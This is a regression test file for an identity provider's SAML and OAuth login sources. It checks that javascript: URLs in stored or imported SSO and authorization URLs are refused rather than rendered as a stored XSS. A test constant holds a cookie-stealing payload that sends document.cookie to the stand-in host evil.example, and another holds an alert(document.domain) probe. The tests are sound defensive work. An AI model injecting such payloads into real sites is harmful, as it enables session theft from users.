/**
 * Only http(s) URLs reach a page or a redirect. IdP metadata with a `javascript:` SSO Location
 * used to be imported as is, and the SP-initiated POST binding page then rendered
 * `<form action="javascript:…">` (stored XSS). The import refuses such metadata; a URL stored
 * before (or by any other way: a database edit, an OAuth URL field) is refused where the page
 * or the redirect is built.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../support/app.js';
import { testKeyPair } from '../../fakes/certs.js';
import { TestSamlIdp } from '../../fakes/saml-idp.js';
import { createSamlSourceViaApi } from '../../sources/saml/http/source-api.js';

let app: TestApp;
const pks: Record<string, string> = {};
const SCRIPT_URL = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';

beforeAll(async () => {
  app = await createTestApp();
  for (const [slug, binding] of [
    ['post', 'POST'],
    ['postauto', 'POST_AUTO'],
    ['redirect', 'REDIRECT'],
  ] as const) {
    pks[slug] = (await createSamlSourceViaApi(app, slug, { sso_url: 'https://idp.example.test/sso', binding_type: binding })).pk;
  }
}, 60_000);

afterAll(async () => {
  await app?.close();
});

/** What an import before the fix (or a direct database edit) left behind. */
async function storeSsoUrl(slug: string, url: string): Promise<void> {
  await app.db.updateTable('saml_sources').set({ sso_url: url }).where('source_uuid', '=', pks[slug]).execute();
}

describe('a stored javascript: sso_url', () => {
  it.each(['post', 'postauto', 'redirect'])('never reaches the browser (%s binding)', async (slug) => {
    await storeSsoUrl(slug, SCRIPT_URL);
    const res = await app.request({ method: 'GET', url: `/source/saml/${slug}/`, token: null });
    expect(res.statusCode).toBe(400);
    expect(res.headers.location).toBeUndefined();
    expect(res.body).not.toContain('<form');
    expect(res.body).not.toContain('javascript:');
    expect(res.body).toContain('The identity provider&#39;s endpoint URL is not an http(s) URL');
  });
});

describe('import_metadata', () => {
  it('refuses metadata whose SingleSignOnService Location is javascript:, and leaves the source alone', async () => {
    await storeSsoUrl('post', 'https://idp.example.test/sso');
    const idp = new TestSamlIdp({
      entityId: 'https://idp.example.test/metadata',
      ssoUrl: 'https://idp.example.test/sso',
      sloUrl: 'https://idp.example.test/slo',
      signing: await testKeyPair('idp'),
    });
    const metadata = idp.metadataXml().replace('Location="https://idp.example.test/sso/post"', 'Location="javascript:alert(document.domain)"');
    const res = await app.request({ method: 'POST', url: '/api/v3/sources/saml/post/import_metadata/', payload: { metadata } });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toEqual({
      metadata: ['The SingleSignOnService (HTTP-POST) Location "javascript:alert(document.domain)" is not an http(s) URL.'],
    });
    const source = await app.request({ method: 'GET', url: '/api/v3/sources/saml/post/' });
    expect(source.json<{ sso_url: string }>().sso_url).toBe('https://idp.example.test/sso');
    const page = await app.request({ method: 'GET', url: '/source/saml/post/', token: null });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('action="https://idp.example.test/sso"');
  });
});

describe('a stored javascript: OAuth authorization_url', () => {
  it('never becomes a redirect Location (the page renderer is the last line)', async () => {
    const create = await app.request({
      method: 'POST',
      url: '/api/v3/sources/oauth/',
      payload: {
        name: 'Generic OIDC',
        slug: 'generic',
        provider_type: 'openidconnect',
        consumer_key: 'client',
        consumer_secret: 'secret',
        authorization_url: 'https://op.example.test/authorize',
        access_token_url: 'https://op.example.test/token',
        profile_url: 'https://op.example.test/userinfo',
      },
    });
    expect(create.statusCode, create.body).toBe(201);
    await app.db
      .updateTable('oauth_sources')
      .set({ authorization_url: SCRIPT_URL })
      .where('source_uuid', '=', create.json<{ pk: string }>().pk)
      .execute();
    const res = await app.request({ method: 'GET', url: '/source/oauth/login/generic/', token: null });
    expect(res.headers.location ?? '').not.toMatch(/^\s*javascript:/i);
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('The redirect target is not an http(s) URL; refusing to send the browser there.');
  });
});
